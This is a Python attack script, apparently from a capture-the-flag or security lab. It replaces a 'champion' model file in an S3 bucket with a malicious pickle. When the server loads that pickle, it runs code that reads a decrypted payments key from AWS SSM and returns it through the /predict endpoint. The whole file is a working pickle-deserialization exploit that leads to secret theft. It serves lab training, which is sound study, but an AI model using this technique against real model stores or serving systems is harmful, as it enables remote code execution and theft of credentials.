"""Put a pickle in place of the champion, and ask the server for a prediction."""

import os
import pickle
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

import boto3

from scripts.labs.attacking import attack
from scripts.labs.trial import Refused

CALL = (
    "__import__('boto3').client('ssm').get_parameter(Name='/lab/payments-key', WithDecryption=True)"
)


class Poison:
    """Loading it evaluates an expression, to a model that predicts the secret."""

    def __reduce__(self) -> tuple[Any, ...]:
        """What pickle calls."""
        return eval, (f"lambda x: {CALL}['Parameter']['Value']",)


@attack
def main() -> str:
    """What the server answers."""
    s3, bucket = (
        boto3.Session(profile_name="train").client("s3"),
        f"lab-models-{os.environ['ACCOUNT']}",
    )
    s3.put_object(Bucket=bucket, Key="champion/model.pkl", Body=pickle.dumps(Poison()))
    address = Path("given/address.txt").read_text().strip()
    try:
        with urllib.request.urlopen(f"{address}/predict?x=3", timeout=30) as answer:
            text = str(answer.read().decode())
    except urllib.error.HTTPError as failure:
        text = failure.read().decode()
    if "FLAG{" not in text:
        raise Refused(f"the server did not load it: {text}")
    return text


main()
